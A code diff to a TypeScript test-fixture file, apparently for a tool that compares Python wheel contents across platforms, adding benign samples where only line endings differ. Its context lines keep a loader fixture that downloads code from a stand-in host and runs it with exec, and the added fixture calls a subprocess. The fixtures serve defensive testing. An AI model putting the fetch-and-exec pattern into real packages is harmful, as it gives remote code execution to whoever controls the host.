@@ -9,6 +9,11 @@ const CORE = { 'acme/__init__.py': INIT, 'acme/core.py': 'def add(a, b):\n    re
 /** Asks a host of its own for something and runs it; inert. */
 const LOADER =
   'import urllib.request\n\nexec(urllib.request.urlopen("https://load.weir.test/x").read().decode())\n';
+/** What would be told if the wheels were not the same. */
+const CALLS = {
+  ...CORE,
+  'acme/core.py': `import subprocess\n${CORE['acme/core.py']}\nsubprocess.run(["weir-inert"])\n`,
+};
 const DAYS = 13 * 24;
 
 function sample(part: Pick<Sample, 'name' | 'files' | 'expected'> & Partial<Sample>): Sample {
@@ -61,6 +66,11 @@ export const samples: Samples = {
   benign: [
     { ...quiet('the same code in every wheel', wheel(CORE)), ...siblings(wheel(CORE)) },
     {
+      ...quiet('the same code with line ends of Windows', wheel(windows(CALLS))),
+      ...siblings(wheel(CALLS)),
+    },
+    { ...quiet('and the other way round', wheel(CALLS)), ...siblings(wheel(windows(CALLS))) },
+    {
       ...quiet(
         'a version file that is written when the wheel is built',
         wheel({
@@ -111,6 +121,12 @@ export const samples: Samples = {
     },
   ],
 };
+
+function windows(files: Readonly<Record<string, string>>): Sample['files'] {
+  return Object.fromEntries(
+    Object.entries(files).map(([path, text]) => [path, text.replaceAll('\n', '\r\n')]),
+  );
+}
 
 function siblings(files: Sample['files']): Pick<Sample, 'filename' | 'siblings'> {
   return { filename: WHEEL, siblings: { [LINUX]: files } };
